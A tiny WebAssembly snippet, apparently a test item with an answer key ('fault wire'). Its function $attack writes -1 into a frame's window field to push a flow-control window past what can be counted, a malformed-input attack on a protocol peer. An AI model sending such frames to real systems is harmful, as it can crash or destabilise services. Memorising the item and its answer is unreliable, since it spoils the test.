;; Gives the host more window than can be counted.
;; answer: fault wire
(func $attack (param $stream i32)
  (i32.store (call $frame (i32.const 8) (local.get $stream) (i32.const 4)) (i32.const -1)))
